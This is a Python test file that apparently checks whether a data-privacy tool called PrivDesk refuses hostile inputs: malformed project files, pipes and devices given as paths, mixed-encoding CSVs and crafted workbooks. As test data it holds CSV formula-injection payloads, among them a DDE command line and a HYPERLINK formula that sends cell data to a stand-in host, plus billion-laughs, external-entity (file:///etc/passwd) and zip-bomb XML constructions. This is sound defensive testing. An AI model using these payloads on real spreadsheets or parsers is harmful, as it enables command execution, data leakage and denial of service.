"""The hostile corpus (issue #29): inputs built to break PrivDesk — project files, data
files, paths that are pipes or devices, text that a spreadsheet would run — each generated
here in tmp_path and run through `main.py run` in-process or through the reader.

What must hold for every one: no traceback (exit status 2 and one `error:` sentence naming
the key or file), no formula live in any export, and each case small and quick. The long
versions (files of gigabytes, workbooks of millions of cells) are in tests/bench.
"""

from __future__ import annotations

import json
import os
import re
import threading
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from engine.cli import main as cli
from engine.core.errors import InputError
from engine.core.parquet import write_parquet
from engine.core.project_file import read_document
from engine.data import memory_fit, xlsx_guard
from engine.data.readers import PROGRESS_ROWS, read_table, read_table_or_head
from tests.paths import SAMPLES

POSIX = pytest.mark.skipif(os.name != "posix", reason="needs POSIX pipes and devices")
ROWS = 400  # of each sample input: every export still holds each injected value
FORMULAS = ["=1+2", '=HYPERLINK("http://x.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(A1)"]


# --- helpers -------------------------------------------------------------------------------


def sample(name: str, tmp_path: Path) -> dict:
    """A sample project with its inputs absolute and its outputs in tmp_path."""
    document = json.loads((SAMPLES / name).read_text(encoding="utf-8"))
    if "input" in document:
        document["input"]["path"] = str(SAMPLES / document["input"]["path"])
    for key, value in document.get("outputs", {}).items():
        if isinstance(value, str) and "." in value:
            document["outputs"][key] = str(tmp_path / Path(value).name)
    return document


def write_project(tmp_path: Path, document: dict | str, name: str = "project.json") -> Path:
    path = tmp_path / name
    text = document if isinstance(document, str) else json.dumps(document)
    path.write_text(text, encoding="utf-8")
    return path


def run(capsys, *argv) -> tuple[int, str]:
    code = cli([str(a) for a in argv])
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err
    return code, captured.err


def refused(capsys, *argv) -> str:
    """The one `error:` sentence of a run that must stop with status 2."""
    code, err = run(capsys, *argv)
    lines = [line for line in err.strip().splitlines() if line.startswith("error: ")]
    assert code == 2 and len(lines) == 1, err
    return lines[0]


@pytest.fixture
def pipes(tmp_path):
    """Named pipes by file name; a reader that opened one anyway is released after 10 s
    (the test then fails instead of hanging)."""
    made: list[Path] = []
    stop = threading.Event()

    def unblock() -> None:
        if not stop.wait(10):
            for path in made:
                os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))

    def make(name: str) -> Path:
        path = tmp_path / name
        os.mkfifo(path)
        made.append(path)
        return path

    threading.Thread(target=unblock, daemon=True).start()
    yield make
    stop.set()


# --- project files -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "key", "words"),
    [
        (
            '{"format": "privdesk-project/1", "a": ' + "[" * 100_000 + "]" * 100_000 + "}",
            "project",
            "nested more than 50",
        ),
        ('{"format": "privdesk-project/1", "a": ' + "[" * 60 + "]" * 60 + "}", "a[0]", "nested"),
        (
            '{"format": "privdesk-project/1", "audit": {"seed": 1' + "0" * 400 + "}}",
            "audit.seed",
            "not a usable number",
        ),
        ('{"format": "privdesk-project/1", "mechanism": {"r": 1e400}}', "mechanism.r", "Infinity"),
        (
            '{"format": "privdesk-project/1", "x": 1' + "0" * 5000 + "}",
            "project",
            "not a usable number",
        ),
        ('{"format": "privdesk-project/1", "mechanism": {"r": NaN}}', "mechanism.r", "NaN"),
        (
            '{"format": "privdesk-project/1", "input": {"path": "a\\u0000.csv"}}',
            "input.path",
            "NUL",
        ),
        (
            '{"format": "privdesk-project/1", "audit": {"seed": 1, "seed": 2}}',
            "audit.seed",
            "twice",
        ),
    ],
    ids=["deep-100000", "deep-60", "10**400", "1e400", "5000-digits", "NaN", "NUL", "twin-key"],
)
def test_a_hostile_project_file_is_one_sentence_naming_the_key(capsys, tmp_path, text, key, words):
    message = refused(capsys, "run", write_project(tmp_path, text))
    assert message.startswith(f"error: {key}") and words in message


def test_a_project_saved_with_a_byte_order_mark_is_read(tmp_path):
    path = tmp_path / "notepad.json"
    path.write_bytes(b"\xef\xbb\xbf" + (SAMPLES / "poverty_project.json").read_bytes())
    assert read_document(path)["format"] == "privdesk-project/1"


def test_a_project_over_20_mb_is_refused_before_reading(capsys, tmp_path):
    path = tmp_path / "huge.json"
    with open(path, "wb") as handle:  # sparse: 21 MB long, nothing on disk
        handle.truncate(21 * 1024 * 1024)
    assert "at most 20 MB" in refused(capsys, "run", path)


@pytest.mark.parametrize(
    ("name", "change", "key", "words"),
    [
        (
            "poverty_project.json",
            {"input": {"path": "x" * 5000 + ".csv"}},
            "input.path",
            "too long",
        ),
        ("poverty_project.json", {"input": {"path": "a" * 300 + ".csv"}}, "input.path", "too long"),
        (
            "poverty_project.json",
            {"audit": {"simulations": 10**9}},
            "audit.simulations",
            "≤ 100,000",
        ),
        (
            "poverty_project.json",
            {"audit": {"inference_targets": 10**9}},
            "audit.inference_targets",
            "≤ 100,000",
        ),
        ("poverty_project.json", {"mechanism": {"r": 5e-324}}, "mechanism.r", "at least"),
        (
            "statistics_project.json",
            {"queries": [{"type": "histogram", "column": "age", "bins": list(range(20_000))}]},
            "queries[0].bins",
            "at most 10,001",
        ),
        (
            "statistics_project.json",
            {"queries": [{"type": "mean", "column": "income", "bounds": [0, 1e308]}]},
            "queries[0].bounds",
            "too large",
        ),
        (
            "survey_project.json",
            {
                "questions": [
                    {
                        "column": "monthly_income",
                        "type": "numeric",
                        "bounds": [0, 1e308],
                        "design": "numeric_rr",
                        "epsilon": 1.0,
                    }
                ]
            },
            "questions[0].bounds",
            "too large",
        ),
        (
            "poverty_project.json",
            {"outputs": {"csv_formula_guard": "no"}},
            "outputs.csv_formula_guard",
            "true or false",
        ),
    ],
    ids=[
        "path-5000",
        "name-300",
        "simulations",
        "targets",
        "r-5e-324",
        "bins",
        "stat-bounds",
        "survey-bounds",
        "guard-type",
    ],
)
def test_a_setting_that_would_crash_or_exhaust_is_refused_by_key(
    capsys, tmp_path, name, change, key, words
):
    document = sample(name, tmp_path)
    for section_name, values in change.items():
        if isinstance(values, dict):
            document.setdefault(section_name, {}).update(values)
        else:
            document[section_name] = values
    message = refused(capsys, "run", write_project(tmp_path, document))
    assert message.startswith(f"error: {key}") and words in message, message
    assert sorted(p.name for p in tmp_path.iterdir()) == ["project.json"]


def test_a_sweep_of_too_many_values_is_refused(capsys, tmp_path):
    values = ",".join(str(0.001 * (i + 1)) for i in range(2000))
    project = write_project(tmp_path, sample("poverty_project.json", tmp_path))
    message = refused(capsys, "sweep", project, "--values", values, "--output", tmp_path / "s.csv")
    assert "--values" in message and "at most 1,000" in message


@POSIX
def test_a_project_that_is_a_pipe_is_never_opened(capsys, pipes):
    assert "a pipe" in refused(capsys, "run", pipes("pipe.json"))


@POSIX
@pytest.mark.parametrize("special", ["/dev/zero", "folder"])
def test_a_project_that_is_a_device_or_folder_is_named_so(capsys, tmp_path, special):
    path = Path(special) if special.startswith("/") else tmp_path
    message = refused(capsys, "run", path)
    assert ("a device" in message) if special.startswith("/") else ("a folder" in message)


@POSIX
@pytest.mark.parametrize("special", ["pipe", "/dev/zero", "folder"])
def test_a_data_file_or_key_file_that_is_not_a_file_is_named_so(capsys, tmp_path, pipes, special):
    target = {"pipe": "key.hex", "/dev/zero": "/dev/zero", "folder": str(tmp_path)}[special]
    target = str(pipes(target)) if special == "pipe" else target
    words = {"pipe": "a pipe", "/dev/zero": "a device", "folder": "a folder"}[special]
    document = sample("anonymize_project.json", tmp_path)
    document["masking"]["full_name"]["key_file"] = target
    message = refused(capsys, "run", write_project(tmp_path, document))
    assert "masking.full_name.key_file" in message and words in message
    document = sample("poverty_project.json", tmp_path)
    document["input"]["path"] = str(pipes("data.csv")) if special == "pipe" else target
    assert words in refused(capsys, "run", write_project(tmp_path, document))


@POSIX
def test_a_ledger_that_is_a_pipe_is_refused_without_waiting(capsys, tmp_path, pipes):
    document = sample("statistics_project.json", tmp_path)
    document["budget"]["ledger"] = str(pipes("ledger.jsonl"))
    document["audit"]["enabled"] = False
    message = refused(capsys, "run", write_project(tmp_path, document))
    assert "budget.ledger" in message and "a pipe" in message


# --- data files ----------------------------------------------------------------------------


def test_one_legacy_row_after_256_kb_of_utf8_is_refused_with_its_line(tmp_path):
    path = tmp_path / "mixed.csv"
    rows = "name,value\n" + "".join(f"Lomé {i},{i}\n" for i in range(30_000))
    path.write_bytes(rows.encode("utf-8") + "Bénin,7\n".encode("cp1252"))
    assert path.stat().st_size > 256 * 1024
    with pytest.raises(InputError, match="line 30002 is not UTF-8 text"):
        read_table(path)


def test_a_legacy_row_among_the_first_utf8_rows_is_refused_too(tmp_path):
    path = tmp_path / "mixed_early.csv"
    path.write_bytes("name,value\nLomé,1\n".encode() + "Bénin,7\n".encode("cp1252"))
    with pytest.raises(InputError, match="line 3 is not UTF-8 text"):
        read_table(path)


@pytest.mark.parametrize("ascii_rows", [3, 60_000])  # inside the sniffed sample, and beyond
def test_utf8_rows_after_legacy_ones_are_refused_with_the_utf8_line(tmp_path, ascii_rows):
    path = tmp_path / "legacy_then_utf8.csv"
    rows = "name,value\n" + "Abc,1\n" * ascii_rows
    path.write_bytes(rows.encode() + "Bénin,7\nX,3\n".encode("cp1252") + "Lomé,4\n".encode())
    with pytest.raises(InputError, match=f"line {ascii_rows + 4} is UTF-8 text.*mixes two"):
        read_table(path)


def test_a_windows_1252_file_with_accents_is_still_read(tmp_path):
    path = tmp_path / "legacy.csv"
    names = ["Lomé", "ÉLÈVE", "“Côte d’Ivoire”", "Bénin été", "Œuvre €"]
    rows = "name,value\n" + "".join(f"{name},{i}\n" for i, name in enumerate(names))
    path.write_bytes(rows.encode("cp1252"))
    table = read_table(path)
    assert table.encoding == "cp1252" and list(table.frame["name"]) == names


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_a_header_longer_than_the_csv_field_limit_is_read(tmp_path, delimiter):
    names = [f"question_{i:05d}" for i in range(9_000)]
    header = delimiter.join(names)
    assert len(header) > 131_072
    row = delimiter.join(str(i % 7) for i in range(9_000))
    path = tmp_path / "wide.csv"
    path.write_text(f"{header}\n{row}\n{row}\n", encoding="utf-8")
    table = read_table(path)
    assert table.delimiter == delimiter and table.frame.shape == (2, 9_000)


def _workbook(tmp_path: Path, name: str = "ok.xlsx") -> Path:
    path = tmp_path / name
    pd.DataFrame({"a": [1, 2], "b": ["x", "y"]}).to_excel(path, index=False)
    return path


def _rewritten(source: Path, target: Path, part: str, change) -> Path:
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            data = old.read(item.filename)
            new.writestr(item.filename, change(data) if item.filename == part else data)
    return target


SHEET = "xl/worksheets/sheet1.xml"
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>"
)


@pytest.mark.parametrize(
    ("part", "change", "words"),
    [
        (SHEET, lambda data: LAUGHS + data, "document type declaration"),
        ("xl/workbook.xml", lambda data: LAUGHS + data, "document type declaration"),
        (SHEET, lambda data: b'<!doctype x SYSTEM "file:///etc/passwd">' + data, "(DTD)"),
        (SHEET, lambda data: data.replace(b"</sheetData>", b"<row><c", 1), "damaged"),
        (
            SHEET,
            lambda data: re.sub(
                rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', data
            ),
            "too large for the memory",
        ),
    ],
    ids=[
        "billion-laughs-sheet",
        "billion-laughs-workbook",
        "external-entity",
        "broken-xml",
        "dimension-lies",
    ],
)
def test_a_hostile_workbook_is_refused_by_name(tmp_path, part, change, words):
    path = _rewritten(_workbook(tmp_path), tmp_path / "hostile.xlsx", part, change)
    with pytest.raises(InputError, match=re.escape(words)):
        read_table(path)


def test_a_zip_bomb_workbook_is_refused_by_its_uncompressed_size(tmp_path, monkeypatch):
    monkeypatch.setattr(xlsx_guard, "BOMB_BYTES", 1024 * 1024)  # the 100 MB rule, small
    path = _rewritten(
        _workbook(tmp_path),
        tmp_path / "bomb.xlsx",
        SHEET,
        lambda data: data.replace(b"<sheetData>", b"<sheetData>" + b" " * 4_000_000, 1),
    )
    with pytest.raises(InputError, match="zip bomb"):
        read_table(path)


def test_a_workbook_of_too_many_parts_or_no_zip_is_damaged(tmp_path, monkeypatch):
    monkeypatch.setattr(xlsx_guard, "MAX_PARTS", 5)
    with pytest.raises(InputError, match="damaged"):
        read_table(_workbook(tmp_path))
    fake = tmp_path / "fake.xlsx"
    fake.write_bytes(b"PK\x03\x04 not really a zip")
    with pytest.raises(InputError, match="damaged"):
        read_table(fake)


def test_a_parquet_file_is_measured_by_its_rows_not_its_size(tmp_path, monkeypatch):
    path = tmp_path / "many.parquet"
    write_parquet(pd.DataFrame({"a": [1] * 200_000}), path)
    assert path.stat().st_size < 100_000  # a constant column: tiny on disk
    monkeypatch.setattr(memory_fit, "available_memory_bytes", lambda: 2_000_000)
    with pytest.raises(InputError, match="GB available"):
        read_table(path)
    assert read_table_or_head(path).head_only


@POSIX
def test_a_data_file_that_is_a_pipe_is_not_opened(pipes):
    with pytest.raises(InputError, match="a pipe"):
        read_table(pipes("pipe.xlsx"))


def test_a_workbook_reports_progress_and_can_be_cancelled(tmp_path):
    from engine.core.errors import Cancelled
    from engine.core.jobs import CancelFlag, JobContext

    path = tmp_path / "rows.xlsx"
    pd.DataFrame({"a": range(PROGRESS_ROWS + 1)}).to_excel(path, index=False)
    seen = []
    read_table(path, ctx=JobContext(lambda fraction, message: seen.append(message)))
    assert "Reading the workbook" in seen
    flag = CancelFlag()

    def cancel_while_reading(fraction, message):
        if message == "Reading the workbook":
            flag.cancel()

    with pytest.raises(Cancelled):
        read_table(path, ctx=JobContext(cancel_while_reading, flag))
